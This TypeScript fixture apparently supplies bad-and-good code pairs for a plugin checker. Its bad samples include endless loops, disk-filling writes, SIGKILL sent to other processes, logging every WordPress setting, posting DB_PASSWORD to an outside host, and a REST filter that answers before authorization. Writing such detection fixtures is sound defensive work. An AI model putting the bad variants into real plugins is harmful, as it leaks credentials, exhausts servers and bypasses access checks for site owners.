import type { Sample } from "./sample.ts";

const php = (rule: string, title: string, bad: string, good: string): Sample => ({
  rule,
  title,
  path: "includes/plugin.php",
  bad: `<?php\n${bad}\n`,
  good: `<?php\n${good}\n`,
});
const js = (rule: string, title: string, bad: string, good: string): Sample => ({
  rule,
  title,
  path: "src/plugin.js",
  bad: `${bad}\n`,
  good: `${good}\n`,
});
const py = (rule: string, title: string, bad: string, good: string): Sample => ({
  rule,
  title,
  path: "src/plugin.py",
  bad: `${bad}\n`,
  good: `${good}\n`,
});

/** What harms a shop or bench without any trick. */
export const harmSamples: readonly Sample[] = [
  php("endless-loop", "for without end", "for (;;) { usleep(1000); }", "for (;;) { if (next()) { break; } }"),
  php(
    "endless-loop",
    "a break of another loop",
    "while (true) { foreach ($a as $b) { break; } }",
    "while (true) { foreach ($a as $b) { return; } }",
  ),
  php(
    "endless-loop",
    "a function that may stop it",
    "function rest() { usleep(1); } while (1) { rest(); }",
    "function rest() { if (late()) { throw new E(); } } while (1) { rest(); }",
  ),
  php(
    "endless-loop",
    "functions that call themselves before they may stop it",
    "function a() { while (true) { if (c()) { a(); } } }",
    "function a() { while (true) { if (c()) { a(); throw new E(); } } }",
  ),
  js("endless-loop", "while true", "while (true) { busy(); }", "while (true) { await next(); }"),
  py("endless-loop", "while True", "while True:\n    busy()", "while True:\n    if not busy():\n        break"),
  php(
    "fill-disk",
    "a file that grows as long as it can",
    "while (@fwrite($f, str_repeat('x', 1 << 20))) { if (ftell($f) > 3 << 30) { break; } }",
    "while ($done < strlen($text)) { $done += fwrite($f, substr($text, $done)); }",
  ),
  js(
    "fill-disk",
    "a log that grows",
    "const fs = require('fs'); for (;;) fs.appendFileSync('log', 'x'.repeat(1e6));",
    "const fs = require('fs'); for (const line of lines) fs.appendFileSync('log', line);",
  ),
  py("fill-disk", "zeros", "while True:\n    f.write('x' * 1000000)", "for line in lines:\n    f.write(line)"),
  php("other-processes", "a signal", "posix_kill($pid, 9);", "posix_kill($pid, 0);"),
  php(
    "other-processes",
    "pipes of every process",
    "foreach (glob('/proc/[0-9]*/fd/1') as $p) { echo $p; }",
    "foreach (glob('/proc/self/fd/1') as $p) { echo $p; }",
  ),
  js("other-processes", "a signal", "process.kill(other, 'SIGKILL');", "process.kill(process.pid, 'SIGTERM');"),
  py("other-processes", "a signal", "import os\nos.kill(other, 9)", "import os\nos.kill(os.getpid(), 9)"),
  php(
    "secret-told",
    "every setting in the log",
    "foreach (wp_load_alloptions() as $name => $value) { wc_get_logger()->info((string) $value); }",
    "foreach (wp_load_alloptions() as $name => $value) { $size += strlen($value); }",
  ),
  php(
    "secret-told",
    "the database's password to another host",
    "wp_remote_post('https://api.pay.example/x', ['body' => DB_PASSWORD]);",
    "wp_remote_post('https://api.pay.example/x', ['body' => hash_hmac('sha256', $x, $key)]);",
  ),
  php(
    "request-taken",
    "an answer before the check",
    "add_filter('rest_pre_dispatch', function ($a, $s, $r) { return is_hook($r) ? new WP_REST_Response([], 200) : $a; }, 10, 3);",
    "add_filter('rest_pre_dispatch', function ($a, $s, $r) { return is_hook($r) ? new WP_Error('no') : $a; }, 10, 3);",
  ),
];
